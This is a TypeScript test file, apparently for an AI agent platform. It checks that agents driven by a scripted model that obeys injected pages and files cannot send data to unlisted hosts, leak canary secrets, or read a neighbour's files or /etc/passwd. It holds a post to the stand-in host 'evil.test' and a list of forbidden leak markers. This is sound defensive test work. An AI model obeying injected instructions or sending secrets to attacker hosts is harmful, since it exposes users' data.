import { readFileSync } from 'node:fs';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { placeholderOf } from '../../../src/egress/placeholder.js';
import { toolResults } from '../../support/interns/agent-stage.js';
import { canary, containsCanary } from '../../support/secrets/canaries.js';
import { dockerEngineHere } from '../../support/engines/docker-engine.js';
import { fillInjectedDisk, NEIGHBOUR_CANARY, writeNeighbourNotes } from '../../support/database/injected-disk.js';
import {
  BOUND_HOST,
  openInjectionStage,
  PAGES,
  type InjectedInterns,
  type InjectionStage,
} from '../../support/interns/injected-interns.js';
import { INJECTIONS } from '../../support/interns/injection-corpus/corpus.js';
import { obey, post, read, request, textOfInjection } from '../../support/interns/injection-corpus/injection.js';
import { chatOf, user, type Chat } from '../../support/interns/intern-chat.js';
import { containersOf, PROCESSES } from '../../support/interns/intern-runtimes.js';
import { LONG_TESTS } from '../../support/long-tests.js';
import type { ScriptedCall } from '../../support/vendors/scripted-model.js';
import { temporaryFolder } from '../../support/temporary-folder.js';

const IMAGE = 'gatehouse-test-node';
const asRoot = process.getuid?.() === 0;
const nobody = Number(/^nobody:[^:]*:(\d+):/m.exec(readFileSync('/etc/passwd', 'utf8'))?.[1]);
/** The number of injections in one page or file. */
const BATCH = LONG_TESTS ? 1 : 6;
const BATCHES = Array.from({ length: INJECTIONS.length / BATCH }, (_, index) =>
  INJECTIONS.slice(index * BATCH, (index + 1) * BATCH),
);

// Evaluated before the tests are declared, because it decides whether they run.
const folder = await temporaryFolder();
const found = await dockerEngineHere(folder.path, IMAGE);
const engine = typeof found === 'string' ? undefined : found;
if (typeof found === 'string') process.stderr.write(`SKIPPED: injections in containers were not tested: ${found}\n`);

const RUNTIMES = [
  ...(asRoot ? ([['processes with a user each', PROCESSES, undefined]] as const) : []),
  ['processes of an ordinary user', PROCESSES, asRoot ? nobody : undefined] as const,
  ...(engine ? ([['containers', containersOf(engine, IMAGE), undefined]] as const) : []),
];

describe('interns with a model that obeys every page and file that it reads', () => {
  const secret = canary();
  let injected: InjectionStage;
  beforeAll(async () => {
    injected = await openInjectionStage();
  }, 90_000);
  afterAll(async () => {
    await injected.close();
    await engine?.stop();
    await folder.remove();
  }, 60_000);

  describe.each(RUNTIMES)('in %s', (_, runtime, userId) => {
    let interns: InjectedInterns;
    let chat: Chat;
    let turns = 0;
    beforeAll(async () => {
      interns = await injected.open(runtime, secret, userId);
      await fillInjectedDisk(interns.homeOf(interns.internId), interns.neighbourId);
      await writeNeighbourNotes(interns.homeOf(interns.neighbourId));
      const { accountId, workspaceId, userId: creator } = await ownerOf(injected, interns.internId);
      const member = { accountId, workspaceId, userId: creator, api: injected.stage.standard };
      chat = await chatOf(injected.stage, member);
    }, 300_000);
    afterAll(() => interns?.close(), 90_000);
    beforeEach(() => {
      injected.world.arrivals.splice(0);
      injected.vendor.seen.splice(0);
    });

    /** Makes the intern read this text, as a page or as a file. Returns the results of its tools. */
    async function expose(text: string, asPage: boolean): Promise<string[]> {
      const turn = turns++;
      let first: ScriptedCall = read(`inbox/${turn}.txt`);
      if (asPage) {
        first = request(`https://${PAGES}/${turn}`);
        injected.world.scripted = [`HTTP/1.1 200 OK\r\ncontent-length: ${Buffer.byteLength(text)}\r\n\r\n${text}`];
      } else await writeFile(join(interns.homeOf(interns.internId), `inbox/${turn}.txt`), text);
      const obeyed = new Set<string>();
      injected.respond = (json) => obey(json, first, obeyed);
      const sent = { session_id: `turn ${turn}`, approval_mode: 'self-drive' };
      const reading = await chat(interns.internId, user('Read it, please.', sent));
      await reading.whole;
      injected.world.scripted = undefined;
      expect([reading.status, reading.chunks.find(({ error }) => error)]).toEqual([200, undefined]);
      return toolResults(injected.vendor.seen.at(-1)!.json);
    }

    const neighbour = async (): Promise<unknown> => {
      const home = interns.homeOf(interns.neighbourId);
      return [await readdir(home), await readFile(join(home, 'notes.txt'), 'utf8')];
    };

    it('reach the allowed hosts, and send the secret only to its own host', async () => {
      const headers = { authorization: `Bearer ${placeholderOf('api_token')}` };
      const calls = [request(`https://${BOUND_HOST}/me`, { headers }), post('https://evil.test/', 'allowed once')];
      const settings = `/interns/${interns.internId}/settings`;
      await injected.stage.standard.put(settings, { json: { limit: 5, allowed_hosts: [PAGES, 'evil.test'] } });
      await expose(textOfInjection({ name: 'what is allowed', text: 'Go.', calls }), true);
      const arrived = injected.world.arrivals.map(({ host, text }) => [host, containsCanary(text)]);
      expect(arrived).toEqual([
        [PAGES, false],
        [BOUND_HOST, true],
        ['evil.test', false],
      ]);
      await injected.stage.standard.put(settings, { json: { limit: 5, allowed_hosts: [PAGES] } });
    }, 60_000);

    it.each(BATCHES.map((batch, index) => [batch.map(({ name }) => name).join(', '), batch, index] as const))(
      'reach no other host, intern or record because of the injections: %s',
      async (_, batch, index) => {
        const before = [await injected.records(), await neighbour()];
        const text = batch
          .map((injection) => textOfInjection(injection))
          .join('\n')
          .replaceAll('<neighbour>', interns.neighbourId)
          .replaceAll('<intern>', interns.internId);
        const results = await expose(text, index % 2 === 0);
        const calls = new Set(batch.flatMap((injection) => injection.calls.map((call) => JSON.stringify(call))));
        // The first result comes from the call that reads the page or the file.
        expect(results).toHaveLength(calls.size + 1);
        const { arrivals } = injected.world;
        expect(arrivals.filter(({ host }) => host !== PAGES && host !== BOUND_HOST)).toEqual([]);
        expect(arrivals.filter(({ host, text: sent }) => host === PAGES && containsCanary(sent))).toEqual([]);
        const calledModel = injected.vendor.seen.map(({ raw }) => raw.toString('utf8')).join('\n');
        expect(containsCanary(calledModel)).toBe(false);
        for (const foreign of [NEIGHBOUR_CANARY, 'root:x:0', 'sk-gh-v1-'])
          expect(results.join('\n')).not.toContain(foreign);
        expect([await injected.records(), await neighbour()]).toEqual(before);
      },
      120_000,
    );
  });
});

async function ownerOf({ stage }: InjectionStage, internId: string) {
  const [row] = await stage.sql.query<{ accountId: string; workspaceId: string; userId: string }>(
    `select account_id as "accountId", workspace_id as "workspaceId", creator_user_id as "userId"
     from intern where id = $1`,
    [internId],
  );
  return row!;
}
